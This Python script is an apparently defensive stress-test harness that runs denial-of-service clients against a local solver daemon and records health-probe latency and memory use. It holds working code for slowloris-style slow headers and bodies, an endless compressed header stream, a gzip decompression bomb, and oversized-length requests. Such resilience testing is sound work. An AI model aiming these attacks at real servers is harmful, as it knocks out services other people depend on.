#!/usr/bin/env python3
"""attack.py: hostile clients against a running clsolved, on loopback only,
bounded in count and time, each attack while probes measure what an
honest client gets (issue 18). Standard library only.

  attack.py slow URL [--conns 200] [--seconds 30] [--interval 2] [--source ADDR]
            [--body none|length|chunked] [--after 10] [--matrix M] [--pid PID]
      slow clients: --conns connections that send a request line and then
      one header line every --interval seconds, never finishing (and
      reconnect at once when the daemon drops them), for --seconds; then
      they leave and the probes go on for --after seconds. With --body,
      each sends a complete POST /v1/jobs head (Content-Length 100 MB, or
      chunked) and then trickles its body, a few bytes per --interval.
  attack.py header URL [--gb 10] [--plain] [--pid PID] [--matrix M]
      the endless header: POST /v1/jobs of a gzip stream (or, --plain, the
      raw text) of a banner followed by --gb GB of '%', generated while it
      is sent (the compressed stream repeats one 1 MiB block made with a
      full flush, so it costs no CPU to send).
  attack.py bomb URL [--entries 300000000] [--rows 100] [--pid PID]
      the gzip bomb of issue 17: a --rows x --rows coordinate matrix
      declaring --entries entries and holding one more (about 6.7 bytes of
      text each: 2 GB for 300 M, 8-9 MB compressed), generated as it is
      sent; the answer, and the job followed to its end if accepted.
  attack.py params URL [--n 1000] [--matrix M]
      requests with --n query parameters (GET and POST).
  attack.py length URL [--matrix M]
      requests announcing a huge body: a GET with Content-Length 10^10, a
      POST above the upload limit, a POST with Transfer-Encoding
      "gzip, chunked", a chunk extension of 100 KB; each answered without
      its body being read.

Probes, during every attack: GET /healthz on a fresh connection every
0.25 s (timeout 10 s) and POST /v1/jobs of --matrix every second (the
202's latency), both from 127.0.0.1. With --pid, rank 0's VmRSS is
sampled every 0.1 s. Output: one JSON object on stdout (latencies in
seconds: max, p50, p99, failures; the attack's own outcome). Figures are
reported, never judged: the caller decides (tests/cli/test_daemon_attack.sh
checks that the service answered; bench/attack.sh prints the targets).
"""
import argparse
import http.client
import json
import os
import random
import selectors
import socket
import struct
import sys
import threading
import time
import urllib.parse
import zlib


def parse_url(url):
    u = urllib.parse.urlsplit(url)
    return u.hostname, u.port or 80


class Probes:
    """Healthz and POST probes in two threads; latencies kept with times."""

    def __init__(self, url, matrix, token=None):
        self.host, self.port = parse_url(url)
        self.body = open(matrix, "rb").read() if matrix else None
        self.token = token
        self.stop = threading.Event()
        self.health = []  # (t, latency or None, status)
        self.posts = []
        self.ids = []
        self.threads = []

    def _one(self, method, path, body, timeout):
        t0 = time.time()
        try:
            c = http.client.HTTPConnection(self.host, self.port, timeout=timeout)
            h = {"Authorization": "Bearer " + self.token} if self.token else {}
            c.request(method, path, body=body, headers=h)
            r = c.getresponse()
            data = r.read()
            c.close()
            return t0, time.time() - t0, r.status, data
        except Exception as e:  # noqa: BLE001
            return t0, None, repr(e)[:80], b""

    def _health(self):
        while not self.stop.is_set():
            t0, lat, st, _ = self._one("GET", "/healthz", None, 10)
            self.health.append((t0, lat, st))
            self.stop.wait(0.25)

    def _post(self):
        while not self.stop.is_set():
            t0, lat, st, data = self._one("POST", "/v1/jobs?tol=1e-8", self.body, 20)
            self.posts.append((t0, lat, st))
            if st == 202:
                try:
                    self.ids.append(json.loads(data)["id"])
                except ValueError:
                    pass
            self.stop.wait(1.0)

    def start(self):
        self.threads = [threading.Thread(target=self._health, daemon=True)]
        if self.body:
            self.threads.append(threading.Thread(target=self._post, daemon=True))
        for t in self.threads:
            t.start()

    def finish(self):
        self.stop.set()
        for t in self.threads:
            t.join(30)


def summary(samples, t_from=None, t_to=None, ok=(200,)):
    s = [x for x in samples if (t_from is None or x[0] >= t_from) and (t_to is None or x[0] < t_to)]
    lats = sorted(x[1] for x in s if x[1] is not None and x[2] in ok)
    fails = [x[2] for x in s if x[1] is None or x[2] not in ok]
    out = {"count": len(s), "answered": len(lats), "failures": len(fails),
           "failure_samples": [str(f) for f in fails[:5]]}
    if lats:
        out.update(max=round(lats[-1], 4), p50=round(lats[len(lats) // 2], 4),
                   p99=round(lats[min(len(lats) - 1, int(len(lats) * 0.99))], 4))
    return out


class RssSampler:
    def __init__(self, pid):
        self.pid = pid
        self.peak = 0
        self.first = None
        self.stop = threading.Event()
        self.t = None

    def rss_kb(self):
        try:
            with open("/proc/%d/status" % self.pid) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1])
        except OSError:
            return 0
        return 0

    def _run(self):
        while not self.stop.is_set():
            r = self.rss_kb()
            if self.first is None:
                self.first = r
            self.peak = max(self.peak, r)
            self.stop.wait(0.1)

    def start(self):
        if self.pid:
            self.t = threading.Thread(target=self._run, daemon=True)
            self.t.start()

    def finish(self):
        self.stop.set()
        if self.t:
            self.t.join()
        return {"rss_before_mb": round((self.first or 0) / 1024, 1),
                "rss_peak_mb": round(self.peak / 1024, 1)} if self.pid else {}


# ----------------------------------------------------------- slow clients

def slow_line(a, i):
    """The i-th piece a slow client sends: a header line (--body none), or
    a complete POST head and then a few bytes of its body (--body length:
    Content-Length 100 MB; --body chunked: one 9-byte chunk each time)."""
    if a.body == "none":
        return b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\n" if i == 0 else b"X-Slow-%d: 1\r\n" % i
    if i == 0:
        frame = (b"Transfer-Encoding: chunked\r\n" if a.body == "chunked"
                 else b"Content-Length: 100000000\r\n")
        return (b"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n" + frame +
                b"\r\n" + slow_line(a, 1))
    piece = b"%%MatrixMarket matrix coordinate real symmetric\n" if i == 1 else b"%% slow %d\n" % (i % 10)
    if a.body == "chunked":
        return b"%x\r\n%s\r\n" % (len(piece), piece)
    return piece


def attack_slow(a):
    host, port = parse_url(a.url)
    sel = selectors.DefaultSelector()
    conns = {}  # socket -> next time to send a header line
    stats = {"connects": 0, "dropped_by_daemon": 0, "connect_errors": 0}

    def connect():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            if a.source:
                s.bind((a.source, 0))
            s.connect_ex((host, port))
        except OSError:
            stats["connect_errors"] += 1
            s.close()
            return
        conns[s] = [time.time(), 0]  # next send, lines sent
        sel.register(s, selectors.EVENT_READ)
        stats["connects"] += 1

    def drop(s):
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        conns.pop(s, None)
        s.close()

    end = time.time() + a.seconds
    while time.time() < end:
        while len(conns) < a.conns:
            connect()
        now = time.time()
        for s, st in list(conns.items()):
            if now >= st[0]:
                line = slow_line(a, st[1])
                try:
                    s.send(line)
                    st[1] += 1
                    st[0] = now + a.interval * (0.5 + random.random())
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    stats["dropped_by_daemon"] += 1
                    drop(s)
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                stats["dropped_by_daemon"] += 1
                drop(s)
    for s in list(conns):
        drop(s)
    return stats


# ----------------------------------------------------------- endless header

def gzip_endless(total_bytes):
    """A gzip stream of the banner then '%' bytes, generated as it is sent:
    one 1 MiB block compressed with a full flush (the window is reset, so
    the block can be repeated as it is)."""
    head = b"%%MatrixMarket matrix coordinate real general\n"
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"  # gzip header, no name
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(b"%" * (1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    for _ in range(total_bytes >> 20):
        yield block
    yield c.flush(zlib.Z_FINISH)
    yield b"\x00" * 8  # CRC and size: never reached by a daemon that refuses in time


def plain_endless(total_bytes):
    yield b"%%MatrixMarket matrix coordinate real general\n"
    block = b"%" * (1 << 20)
    for _ in range(total_bytes >> 20):
        yield block



def gzip_bomb(rows, entries):
    """(gzip pieces, text bytes): a rows x rows matrix declaring `entries`
    and holding entries + 1 lines that cycle through the cells; one block
    of whole lines compressed with a full flush and repeated."""
    head = b"%%%%MatrixMarket matrix coordinate real general\n%d %d %d\n" % (rows, rows, entries)
    # a cycle of 250 cells (under deflate's 32 KB window, so the text
    # compresses about 250:1, as the bomb of the issue did)
    cells = [b"%d %d 1\n" % (i % rows + 1, (i * 7) % rows + 1) for i in range(250)]
    block = b"".join(cells)
    reps = max(1, (1 << 20) // len(block))
    block = block * reps
    per = len(cells) * reps
    total = entries + 1
    nblocks, rem = divmod(total, per)
    tail = b"".join(cells[k % len(cells)] for k in range(rem))
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    pieces = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
              c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
    cblock = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    # the CRC of the repeated block, by doubling (crc32 of the concatenation)
    for _ in range(nblocks):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + nblocks * len(block) + len(tail)

    def gen():
        yield from pieces
        for _ in range(nblocks):
            yield cblock
        yield c.compress(tail) + c.flush(zlib.Z_FINISH)
        yield struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)
    return gen(), size


def attack_bomb(a):
    gen, size = gzip_bomb(a.rows, a.entries)
    a.plain = False
    out = attack_header(a, gen)
    out["text_bytes"] = size
    return out

def attack_header(a, gen=None):
    host, port = parse_url(a.url)
    total = int(a.gb * (1 << 30))
    if gen is None:
        gen = plain_endless(total) if a.plain else gzip_endless(total)
    s = socket.create_connection((host, port), timeout=30)
    s.sendall(b"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")

    def pieces():
        yield from gen
        yield None  # the terminating chunk
    t0 = time.time()
    sent = 0
    answer = b""
    s.setblocking(False)
    try:
        for piece in pieces():
            data = b"0\r\n\r\n" if piece is None else b"%x\r\n" % len(piece) + piece + b"\r\n"
            view = memoryview(data)
            while view:
                try:
                    n = s.send(view)
                    view = view[n:]
                    sent += n
                except BlockingIOError:
                    pass
                try:
                    got = s.recv(65536)
                    if got:
                        answer += got
                    else:
                        raise ConnectionResetError("closed")
                except BlockingIOError:
                    if not view:
                        break
                    time.sleep(0.001)
                if answer and b"\r\n\r\n" in answer:
                    raise StopIteration
            if time.time() - t0 > a.limit:
                break
    except (StopIteration, OSError):
        pass
    s.setblocking(True)
    s.settimeout(5)
    try:
        while b"\r\n\r\n" not in answer or len(answer) < answer.find(b"\r\n\r\n") + 50:
            got = s.recv(65536)
            if not got:
                break
            answer += got
    except OSError:
        pass
    s.close()
    head, _, body = answer.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else None
    out = {"status": status, "seconds": round(time.time() - t0, 3), "sent_bytes": sent,
           "body": body[:300].decode("utf-8", "replace")}
    if status == 202:
        # accepted (a daemon without the header limit): follow the job
        jid = json.loads(body.decode("utf-8", "replace"))["id"]
        end = time.time() + a.follow
        job = {}
        while time.time() < end:
            c = http.client.HTTPConnection(host, port, timeout=10)
            c.request("GET", "/v1/jobs/" + jid)
            job = json.loads(c.getresponse().read())
            c.close()
            if job["status"] not in ("queued", "running"):
                break
            time.sleep(0.2)
        out["job"] = {"id": jid, "status": job.get("status"), "phase": job.get("progress", {}).get("phase"),
                      "error": job.get("error"), "seconds_since_start": round(time.time() - t0, 1)}
    return out


# ----------------------------------------------------------- parameters, lengths

def raw(host, port, request, read_timeout=10, send_body=None):
    """Sends request bytes (then send_body, if any, as long as the daemon
    takes it); returns (status, headers, body, seconds, body bytes sent)."""
    t0 = time.time()
    s = socket.create_connection((host, port), timeout=read_timeout)
    s.sendall(request)
    sent = 0
    if send_body:
        s.setblocking(False)
        chunk = b"x" * 65536
        end = time.time() + 3
        while time.time() < end:
            try:
                sent += s.send(chunk)
            except BlockingIOError:
                time.sleep(0.01)
            except OSError:
                break
            try:
                if s.recv(1, socket.MSG_PEEK):
                    break
            except BlockingIOError:
                pass
            except OSError:
                break
        s.setblocking(True)
        s.settimeout(read_timeout)
    data = b""
    try:
        while True:
            got = s.recv(65536)
            if not got:
                break
            data += got
            h, _, b = data.partition(b"\r\n\r\n")
            if b"\r\n\r\n" in data:
                cl = [ln for ln in h.split(b"\r\n") if ln.lower().startswith(b"content-length:")]
                if cl and len(b) >= int(cl[0].split(b":")[1]):
                    break
    except OSError:
        pass
    s.close()
    h, _, b = data.partition(b"\r\n\r\n")
    status = int(h.split(b" ")[1]) if h.startswith(b"HTTP/") else None
    ctype = [ln for ln in h.split(b"\r\n") if ln.lower().startswith(b"content-type:")]
    return {"status": status, "content_type": ctype[0].split(b":", 1)[1].strip().decode() if ctype else None,
            "body": b[:240].decode("utf-8", "replace"), "seconds": round(time.time() - t0, 3),
            "body_bytes_sent": sent}


def attack_params(a):
    host, port = parse_url(a.url)
    q = "&".join("p%d=%d" % (i, i) for i in range(a.n))
    out = {}
    out["get"] = raw(host, port, ("GET /v1/jobs?%s HTTP/1.1\r\nHost: x\r\n\r\n" % q).encode())
    out["post"] = raw(host, port, ("POST /v1/jobs?%s HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n"
                                   "0123456789" % q).encode())
    long_q = "a=" + "b" * 9000
    out["long"] = raw(host, port, ("GET /v1/jobs?%s HTTP/1.1\r\nHost: x\r\n\r\n" % long_q).encode())
    return out


def attack_length(a):
    host, port = parse_url(a.url)
    out = {}
    out["get_huge_length"] = raw(host, port, b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 10000000000\r\n\r\n",
                                 send_body=True)
    out["post_over_limit"] = raw(host, port, b"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 10000000000\r\n\r\n",
                                 send_body=True)
    out["te_gzip_chunked"] = raw(host, port, b"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
                                 send_body=True)
    ext = b"5;" + b"e" * 100000 + b"\r\nhello\r\n0\r\n\r\n"
    out["chunk_extension_100k"] = raw(host, port, b"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + ext)
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=["slow", "header", "bomb", "params", "length"])
    ap.add_argument("url")
    ap.add_argument("--conns", type=int, default=200)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--interval", type=float, default=2)
    ap.add_argument("--body", choices=["none", "length", "chunked"], default="none",
                    help="slow: trickle a POST body (Content-Length or chunked) instead of headers")
    ap.add_argument("--source")
    ap.add_argument("--after", type=float, default=10)
    ap.add_argument("--before", type=float, default=2)
    ap.add_argument("--gb", type=float, default=10)
    ap.add_argument("--limit", type=float, default=60, help="seconds the header attack may send")
    ap.add_argument("--plain", action="store_true")
    ap.add_argument("--follow", type=float, default=60, help="seconds to follow an accepted job")
    ap.add_argument("--n", type=int, default=1000)
    ap.add_argument("--entries", type=int, default=300000000)
    ap.add_argument("--rows", type=int, default=100)
    ap.add_argument("--matrix")
    ap.add_argument("--pid", type=int)
    ap.add_argument("--token", default=os.environ.get("CLSOLVE_TOKEN"))
    a = ap.parse_args()
    probes = Probes(a.url, a.matrix, a.token)
    rss = RssSampler(a.pid)
    probes.start()
    rss.start()
    time.sleep(a.before)
    t_attack = time.time()
    if a.attack == "slow":
        outcome = attack_slow(a)
    elif a.attack == "header":
        outcome = attack_header(a)
    elif a.attack == "bomb":
        outcome = attack_bomb(a)
    elif a.attack == "params":
        outcome = attack_params(a)
    else:
        outcome = attack_length(a)
    t_left = time.time()
    time.sleep(a.after)
    probes.finish()
    res = {"attack": a.attack, "outcome": outcome, "attack_seconds": round(t_left - t_attack, 2)}
    res.update(rss.finish())
    res["healthz_before"] = summary(probes.health, None, t_attack)
    res["healthz_during"] = summary(probes.health, t_attack, t_left)
    res["healthz_after"] = summary(probes.health, t_left)
    res["post_during"] = summary(probes.posts, t_attack, t_left, ok=(202,))
    res["post_after"] = summary(probes.posts, t_left, ok=(202,))
    # recovery: from the attacker leaving to the first probe of each kind
    # that started after it and succeeded in under 0.5 s (healthz) / 1 s (POST)
    for name, samples, okst, fast in (("healthz", probes.health, 200, 0.5), ("post", probes.posts, 202, 1.0)):
        rec = [x[0] + x[1] - t_left for x in samples
               if x[0] >= t_left and x[1] is not None and x[2] == okst and x[1] < fast]
        res["%s_normal_after_s" % name] = round(min(rec), 3) if rec else None
    res["accepted_ids"] = probes.ids
    print(json.dumps(res, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
